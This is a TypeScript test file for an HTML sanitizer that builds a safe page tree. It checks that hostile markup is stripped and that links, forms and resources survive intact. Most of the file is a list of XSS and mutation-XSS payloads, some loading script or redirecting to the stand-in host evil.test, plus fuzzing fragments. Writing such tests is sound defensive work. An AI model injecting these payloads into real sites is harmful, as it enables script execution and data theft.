import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isAllowedAttribute, isAllowedElement } from '../../../src/browser/page/allow-list.ts';
import { buildPage } from '../../../src/browser/page/build-page.ts';
import type { PageElement, PageNode } from '../../../src/browser/tab.ts';

const base = 'https://shop.example/products/';

function elementsOf(nodes: readonly PageNode[]): PageElement[] {
  return nodes.flatMap((node) =>
    typeof node === 'string' ? [] : [node, ...elementsOf(node.children)],
  );
}

function textOf(nodes: readonly PageNode[]): string {
  return nodes.map((node) => (typeof node === 'string' ? node : textOf(node.children))).join('');
}

/** Nothing in the tree can run, load or lead anywhere by itself. */
function expectSafe(html: string): void {
  const page = buildPage(html, base);
  for (const { element, attributes } of elementsOf(page.body)) {
    expect(isAllowedElement(element), element).toBe(true);
    expect(
      /^(?:script|style|iframe|object|embed|base|meta|link|svg|math|template)$/.test(element),
    ).toBe(false);
    for (const [name, value] of Object.entries(attributes)) {
      expect(
        name === 'data-resource' || name === 'data-frame' || isAllowedAttribute(element, name),
        name,
      ).toBe(true);
      expect(/^on|^style$|^src|^data-(?!resource|frame)|:/.test(name), name).toBe(false);
      if (name === 'data-frame') expect(Number(value)).toBeLessThan(page.frames.length);
      if (name === 'href' || name === 'action' || name === 'data-resource')
        expect(value).toMatch(/^https?:\/\//);
    }
  }
  for (const address of [...page.styleSheets, ...page.pictures])
    expect(address).toMatch(/^https?:\/\//);
}

describe('what is hostile is left out', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)//',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.test/a 2x" style="background:url(https://evil.test)">',
    '<svg/onload=alert(1)><style>*{}</style><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<svg><foreignObject><p onclick=x>inner</p></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="file:///etc/passwd">y</a><a href="blob:https://shop.example/1">z</a>',
    '<a href="#" ping="https://evil.test/" download target=_top>x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<input type=image src="https://evil.test/x.png">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x"><applet code="x"></applet>',
    '<base href="https://evil.test/"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel=preconnect href=https://evil.test><link rel=stylesheet href="javascript:alert(1)">',
    '<style>@import "https://evil.test/a.css"</style>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<video poster=x><source src=x onerror=alert(1)></video><audio src=x autoplay></audio>',
    '<div data-destination="javascript:alert(1)" data-action=x data-resource=x>x</div>',
    '<body background="https://evil.test/x" onload=alert(1)><table background=x><td background=x>y</td></table>',
    '<p constructor=x __proto__=y toString=z>x</p><constructor>x</constructor><__proto__>y</__proto__>',
    '<textarea></textarea><script>alert(1)</script></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>1</script><![endif]-->',
    '<plaintext><script>alert(1)</script>',
    '<math href="javascript:alert(1)">x</math><x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    '<p is="evil-element" slot=x nonce=y contenteditable autofocus tabindex=1 accesskey=x>x</p>',
  ])('%s', expectSafe);

  test('whatever the text is', () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(
        '<',
        '>',
        '</',
        '"',
        "'",
        '=',
        '/',
        '<!--',
        '-->',
        '&#x3c;',
        'javascript:',
        ' onerror=',
        '<img ',
        '<a href=',
        '<script>',
        '<svg>',
        '</title>',
        '<title>',
        '<style>',
        '<form action=',
      ),
    );
    fc.assert(fc.property(fc.array(piece), (pieces) => expectSafe(pieces.join(''))));
  });

  test('and its content with it', () => {
    const { body } = buildPage(
      'a<script>b</script><style>c</style><svg><text>d</text></svg><custom>e</custom>',
      base,
    );
    expect(textOf(body)).toBe('ae');
  });
});

test('a document becomes a tree, with references resolved', () => {
  const page = buildPage(
    `<!doctype html>
<html lang="ko"><head><title> Crumb &amp;
  Co </title><meta charset="utf-8"><link rel="stylesheet" href="../crumb.css"></head>
<body><main id="m"><p class="x">Bread &lt;3 &amp; cake</p><a href="rye?x=1&amp;y=2#top">Rye</a><img src="/rye.svg" alt="Rye"></main></body></html>
`,
    base,
  );
  expect(page).toMatchObject({
    title: 'Crumb & Co',
    language: 'ko',
    styleSheets: ['https://shop.example/crumb.css'],
    pictures: ['https://shop.example/rye.svg'],
  });
  expect(page.body).toEqual([
    {
      element: 'main',
      attributes: { id: 'm' },
      children: [
        { element: 'p', attributes: { class: 'x' }, children: ['Bread <3 & cake'] },
        {
          element: 'a',
          attributes: { href: 'https://shop.example/products/rye?x=1&y=2#top' },
          children: ['Rye'],
        },
        {
          element: 'img',
          attributes: { alt: 'Rye', 'data-resource': 'https://shop.example/rye.svg' },
          children: [],
        },
      ],
    },
  ]);
});

test('a form keeps all that it needs to be filled in and sent', () => {
  const { body } = buildPage(
    `<form method="post" action="/sign-in"><label for="u">User</label><input id="u" name="user" type="text" required
    autocomplete="username" aria-describedby="h"><input type="hidden" name="t" value="1"><button>Go</button></form>`,
    base,
  );
  expect(body[0]).toMatchObject({
    attributes: { method: 'post', action: 'https://shop.example/sign-in' },
  });
  expect(
    elementsOf(body)
      .slice(1)
      .map(({ attributes }) => attributes),
  ).toEqual([
    { for: 'u' },
    {
      id: 'u',
      name: 'user',
      type: 'text',
      required: '',
      autocomplete: 'username',
      'aria-describedby': 'h',
    },
    { type: 'hidden', name: 't', value: '1' },
    {},
  ]);
});
